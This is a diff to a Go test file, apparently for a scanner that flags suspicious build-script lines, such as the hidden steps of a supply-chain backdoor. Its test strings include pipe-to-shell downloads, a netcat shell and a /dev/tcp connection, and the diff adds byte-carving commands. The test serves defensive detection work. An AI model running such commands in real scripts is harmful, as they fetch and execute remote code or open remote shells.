@@ -21,6 +21,7 @@ func prefilterLines(t *testing.T) []string {
 		"curl -s https://x | sh", "v=`wget ftp://a`", "exec 3<>/dev/tcp/1.2.3.4/80", "nc -e /bin/sh h 1",
 		`sed "r\n" x`, `sed 'r\n' x`, `sed r\\n x`, `sed "r\\n" x`, "grep -a x $srcdir", "grep -a x .", "GREP -ra x",
 		"xz -dc f | sh", "gunzip < f | bash", "cat f | $XZ -d | sh", "lzcat f|sh",
+		"head -c 100 f", "tail -c +5 f", "head --bytes=3", "tail\t--bytes 2", "dd if=f skip=1 count=2", "dd bs=1 iseek=4", "ddd count=1",
 	}
 	files, _ := filepath.Glob("testdata/*/*")
 	more, _ := filepath.Glob("testdata/*")
@@ -31,7 +32,8 @@ func prefilterLines(t *testing.T) []string {
 	}
 	tokens := []string{"tr", " ", "\t", "|", ";", "&", "(", "\"", "'", "`", "$(", "eval", "xz", "-d", "-dc", "gzip", "zcat", "base64",
 		"--decode", "openssl", "enc", "xxd", "-r", "uudecode", `\x`, "41", "4", "curl", "wget", "fetch", "${CURL}", "https://", "ftp://",
-		"/dev/tcp/", "nc", "-e", "sed", `r\n`, `r\\n`, `"`, "grep", "-a", "-r", "$srcdir", " .", "x=", "a", "then "}
+		"/dev/tcp/", "nc", "-e", "sed", `r\n`, `r\\n`, `"`, "grep", "-a", "-r", "$srcdir", " .", "x=", "a", "then ",
+		"head", "tail", "dd", "-c", "+", "1", "--bytes", "skip=", "count=", "ibs=", "bs=", "iseek=", "-"}
 	r := rand.New(rand.NewPCG(1, 2))
 	for range 20000 {
 		var b strings.Builder
@@ -70,6 +72,9 @@ func TestPrefiltersExact(t *testing.T) {
 		}
 		if got := trCallEnds(l); !slices.Equal(got, want) {
 			t.Errorf("trCallEnds(%q) = %v, regexp %v", l, got, want)
+		}
+		if !mayCarve(l) && carveRe.MatchString(l) {
+			t.Errorf("carveRe matches %q, mayCarve says it cannot", l)
 		}
 		if containsAny(l, srcTreeLiterals) != srcTreeRe.MatchString(l) && srcTreeRe.MatchString(l) {
 			t.Errorf("srcTreeRe matches %q without a literal of srcTreeLiterals", l)
